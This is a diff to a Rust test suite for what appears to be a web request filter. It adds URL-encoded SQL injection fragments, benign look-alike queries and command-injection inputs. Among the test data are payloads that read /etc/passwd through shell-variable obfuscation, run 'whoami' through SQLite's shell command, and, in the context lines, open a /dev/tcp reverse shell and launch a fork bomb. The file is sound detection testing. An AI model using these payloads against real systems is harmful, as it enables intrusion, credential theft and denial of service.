@@ -180,23 +180,28 @@ fn attack_at(request: &Request, paranoia: u8) -> bool {
 fn sql_fragments_count_from_paranoia_two() {
     let mut wrong = Vec::new();
     for q in [
-        "q=%3C%3D%3E",                 // an operator alone
-        "q=is%20not%20null",           // a null test alone
-        "q=in%20(3,4,5)",              // a list test
-        "q=or%2042%3D(",               // a boolean operator and a comparison left open
-        "q=%26%26%20qty%20%3D%3D",     // the same after &&
-        "q=%2Fx9%20or",                // a value ending in a word operator
-        "q=floor(",                    // a function opened
-        "q=if(7%3D",                   // a condition opened
-        "q=order%20by",                // a clause alone
-        "q=union%20select",            // the union probe with nothing around it
-        "q=)%20as%20t%20from",         // a subquery's alias
+        "q=%3C%3D%3E",                                             // an operator alone
+        "q=is%20not%20null",                                       // a null test alone
+        "q=in%20(3,4,5)",                                          // a list test
+        "q=or%2042%3D(",           // a boolean operator and a comparison left open
+        "q=%26%26%20qty%20%3D%3D", // the same after &&
+        "q=%2Fx9%20or",            // a value ending in a word operator
+        "q=floor(",                // a function opened
+        "q=if(7%3D",               // a condition opened
+        "q=order%20by",            // a clause alone
+        "q=union%20select",        // the union probe with nothing around it
+        "q=)%20as%20t%20from",     // a subquery's alias
         "q=name%27collate%20binary--", // a closed string, SQL, a comment
-        "q=xp_fileexist",              // a procedure named alone
-        "q=2%3D2",                     // a comparison of literals
-        "q=%27b%27%3D%27c",            // of strings
-        "q=%27%20drop%20x",            // a statement keyword after a quote
-        "q=%5C%27or",                  // an escaped quote, then a logic operator
+        "q=xp_fileexist",          // a procedure named alone
+        "q=2%3D2",                 // a comparison of literals
+        "q=%27b%27%3D%27c",        // of strings
+        "q=%27%20drop%20x",        // a statement keyword after a quote
+        "q=%5C%27or",              // an escaped quote, then a logic operator
+        "q=%27%20or%20abc!",       // a quote closed first, a boolean operator, one operand
+        "q=pay%3D%26%26(l%3D!0)",  // a fragment after an encoded form's own `name=`
+        "q=pay%3Dor%20(7%3D8)",    // the same with a word operator
+        "q=%27msdasql%27",         // a SQL Server data provider named alone
+        "q=if(7%3D7)%20select%207%20else%20drop%20function%20x--", // a T-SQL IF statement
     ] {
         let request = query(q);
         if attack_at(&request, 1) || !attack_at(&request, 2) {
@@ -219,6 +224,18 @@ fn sql_fragments_count_from_paranoia_two() {
         "q=%22create%22%20by%20someone",
         "q=meeting%20(",
         "q=shabby%20%22and%20white",
+        "q=Order%20by%20phone", // a clause's words in a sentence
+        "q=xor%20gate",         // an operator's name and a word
+        "q=%3E%3E%20next",      // a pager's arrow
+        "q=in%20(3%20colours)", // a parenthesis in prose
+        "q=Is%20null%20allowed%3F",
+        "q=a%20%3C%20b%20and%20c%20%3E%20d", // a finished condition in mid-text
+        "q=age%20%3E%3D%2018%20%26%26%20country%20%3D%3D%20%27US%27",
+        "q=Dad%27s%20or%20Mom%27s", // a word before the quote
+        "q=%22and%20when%20the%20kids%20are%20old%22", // a quoted sentence
+        "q=gallery%3D1%3D5",        // a parameter echoed in a link
+        "q=If%20(possible)%20select%20the%20blue%20one",
+        "q=OpenQuery%20is%20a%20feature",
     ] {
         if attack_at(&query(q), 2) {
             wrong.push(q);
@@ -377,6 +394,12 @@ fn command_injection_techniques() {
         "cmd=f()%7B%20f()%20%26%20f()%3B%20%7D%3B%20f", // a fork bomb by background calls
         "cmd=d%3D/dev%26%26(sh)0%3E%24d/tcp/203.0.113.9/777", // /dev held in a variable
         "search=%26%26%2B%7C%2Bdir%20c:/", // `+` for spaces beside separators
+        "host=x%3Bc%24%3Fat%20/et%24%3Fc/pas%24%3Fswd", // `$?` glued inside words
+        "host=x%3Bc%24%24at%20/et%24%24c/passwd", // `$$` likewise
+        "s=1%3B.sh%20whoami",        // SQLite's shell dot command
+        "code=1%3B.%22shell%20whoami", // ... with a quote inside
+        "x=%27i%27p%20a",            // `ip` split by quotes
+        "x=a%26%26dir%20c%3A",       // a drive as the argument
     ] {
         assert_attack(query(q), "cmdi");
     }
@@ -408,6 +431,11 @@ fn prose_with_semicolons_and_pipes_is_not_a_command() {
         "route=/api/*/v?/x",      // a route pattern, not a globbed program
         "q=%7Bred,green%7Dish",   // braces in prose
         "height=5%E2%80%B2%2011", // a prime for feet
+        "msg=my%20ip%20is%20203.0.113.9",
+        "q=ip%20address",
+        "note=Total%3A%20%24%245%20or%20%24%3F", // dollar signs that are money
+        "file=a%3Bb.shell%20script",
+        "q=x%3B.sh", // a file extension after a semicolon
     ] {
         assert_clean(query(q));
     }
